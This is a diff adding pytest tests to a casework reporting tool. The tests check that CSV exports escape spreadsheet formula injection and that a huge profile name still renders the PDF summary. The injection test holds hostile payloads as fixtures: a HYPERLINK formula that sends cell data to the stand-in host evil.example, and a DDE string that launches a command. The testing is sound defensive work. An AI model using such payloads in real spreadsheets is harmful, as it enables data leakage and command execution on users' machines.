@@ -256,3 +256,54 @@ def test_the_same_tables_when_a_long_write_keeps_the_reads_in_one_thread(
         writer.close()
     assert alone.csv_bytes == paired.csv_bytes
     assert [t.values for t in alone.tables] == [t.values for t in paired.tables]
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+
+
+def test_summary_csv_cells_cannot_run_as_formulas(
+    officer: OpenVault, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """No text from the vault reaches summary.csv today (its keys are the app's own codes), so a
+    table with hostile keys stands in for one that some day might."""
+    for _ in range(11):
+        add_person(officer, intakes=[date(2026, 7, 10)], types=["SexualExploitation"])
+    real_t7 = quarterly._t7
+
+    def hostile_t7(cases, period):
+        table = real_t7(cases, period)
+        for key in (HOSTILE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tX", "\r=1", "a\r=2"):
+            table.rows.append(key)
+        return table
+
+    monkeypatch.setattr(quarterly, "_t7", hostile_t7)
+    result = release(officer)
+    lines = list(csv.reader(io.StringIO(result.csv_bytes.decode(), newline="")))
+    row_keys = [line[4] for line in lines[1:] if line[3] == "T7"]
+    assert "'" + HOSTILE in row_keys and "'\tX" in row_keys
+    # a carriage return would end the row for a spreadsheet: it is written as a quoted line feed
+    assert "'\n=1" in row_keys and "a\n=2" in row_keys
+    assert b"\r" not in result.csv_bytes
+    assert not any(key.startswith(tuple("=+-@\t\r")) for key in row_keys)
+    values = [line[6] for line in lines[1:]]
+    assert values and all(v == "x" or v.isdigit() for v in values)  # counts untouched
+    assert release(officer).csv_bytes == result.csv_bytes  # still byte-identical on re-export
+
+
+def test_a_huge_profile_name_still_prints_the_summary(officer: OpenVault, tmp_path: Path) -> None:
+    from pypdf import PdfReader
+
+    from casework.model import ReportingProfile
+
+    huge = ("Nyokabi" * 15_000)[:100_000]  # unbroken, as an old vault could hold
+    for _ in range(11):
+        add_person(officer, intakes=[date(2026, 7, 10)], types=["SexualExploitation"])
+    with officer.transaction() as session:
+        session.execute(update(ReportingProfile).values(name=huge))
+    with officer.transaction() as session:
+        (profile,) = profiles.list_profiles(session, officer.actor)
+        quarterly.export_quarterly(session, officer.actor, profile, Q3, tmp_path / "out", TODAY)
+    pdf = PdfReader(tmp_path / "out" / "summary.pdf")
+    text = " ".join(" ".join(page.extract_text() for page in pdf.pages).split())
+    assert "Prepared for: Nyokabi" in text and "not printed" in text
+    assert "T2 · People by age band and gender" in text and len(pdf.pages) < 10
